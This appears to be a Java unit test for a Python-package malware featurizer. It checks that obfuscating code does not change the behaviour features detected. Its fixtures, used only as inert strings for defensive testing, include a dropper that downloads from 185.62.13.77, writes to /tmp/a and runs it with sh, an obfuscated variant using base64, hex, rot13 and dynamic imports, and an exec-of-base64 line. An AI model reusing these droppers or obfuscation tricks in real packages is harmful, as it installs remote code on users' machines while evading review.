package dev.fang.featurize.features;

import static dev.fang.featurize.features.Fixtures.lines;
import static dev.fang.featurize.features.Fixtures.pkg;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Test;

/** With the real analyzer: calls that only spell a literal or a name are no API use and no behaviour. Nothing runs. */
class PlumbingFeaturesTest {
    private static final PackageFeaturizer FEATURIZER = new PackageFeaturizer();

    private static FeatureResult run(PackageContents p) {
        return FEATURIZER.featurize(p);
    }

    private static String b64(String s) {
        return Base64.getEncoder().encodeToString(s.getBytes(StandardCharsets.UTF_8));
    }

    @Test
    void plumbingOfObfuscatedLiteralsAndNamesIsNoBehaviour() {
        FeatureResult plain = run(pkg("demo/__init__.py", lines(
                "import os, urllib.request",
                "data = urllib.request.urlopen('http://185.62.13.77/a').read()",
                "open('/tmp/a', 'wb').write(data)",
                "os.system('sh /tmp/a')")));
        FeatureResult hidden = run(pkg("demo/__init__.py", lines(
                "import base64, codecs",
                "data = getattr(__import__('urllib.request', fromlist=['x']), 'urlopen')(base64.b64decode('"
                        + b64("http://185.62.13.77/a") + "').decode()).read()",
                "open(bytes.fromhex('2f746d702f61').decode(), ''.join(map(chr, [119, 98]))).write(data)",
                "__import__('os').system(codecs.decode('fu /gzc/n', 'rot13'))")));
        for (Feature f : FeatureCatalogue.features()) {
            String base = f.name().substring(f.name().indexOf('_') + 1);
            if (base.startsWith("api_") || base.startsWith("modlevel_") || base.startsWith("beh_")
                    || base.equals("hook_module_level_risky")) {
                assertThat(hidden.value(f.name())).as(f.name()).isEqualTo(plain.value(f.name()));
            }
        }
        assertThat(plain.value("import_beh_dropper")).isEqualTo(1);
        assertThat(plain.value("import_beh_obfuscated_execution")).as("a command decoded from a literal is still the command")
                .isZero();
        assertThat(hidden.value("import_dec_strings")).isPositive();
        assertThat(hidden.value("import_apiobf_dynamic_import")).isEqualTo(2);
        assertThat(hidden.value("import_apiobf_getattr")).isEqualTo(1);
    }

    @Test
    void codeInAConstantThatIsNotRunCountsOnlyAsDecoded() {
        String code = "import socket\nsocket.create_connection(('185.62.13.77', 80))\n";
        FeatureResult plain = run(pkg("demo/__init__.py", lines("import os", "T = " + repr(code), "os.system('id')")));
        FeatureResult hidden = run(pkg("demo/__init__.py", lines("import base64, os",
                "T = base64.b64decode('" + b64(code) + "').decode()", "os.system('id')")));
        assertThat(hidden.value("import_dec_payloads")).isEqualTo(1);
        assertThat(hidden.value("import_dec_apis")).isEqualTo(1);
        assertThat(plain.value("import_dec_payloads")).isZero();
        for (String f : List.of("import_api_network_sites", "import_api_command_sites", "import_beh_obfuscated_execution",
                "import_beh_reverse_shell", "import_modlevel_network")) {
            assertThat(hidden.value(f)).as(f).isEqualTo(plain.value(f));
        }
    }

    private static String repr(String s) {
        return "'" + s.replace("'", "\\'").replace("\n", "\\n") + "'";
    }

    @Test
    void executingAnEncodedPayloadIsObfuscatedExecutionEvenOnOneLine() {
        FeatureResult r = run(pkg("demo/__init__.py", lines(
                "import base64",
                "exec(base64.b64decode('" + b64("print('hello')") + "'))")));
        assertThat(r.value("import_beh_obfuscated_execution")).isEqualTo(1);
        assertThat(r.value("import_api_code_eval")).isEqualTo(1);
        assertThat(r.value("import_api_encoding_sites")).as("b64decode of a literal is folded").isZero();
    }
}
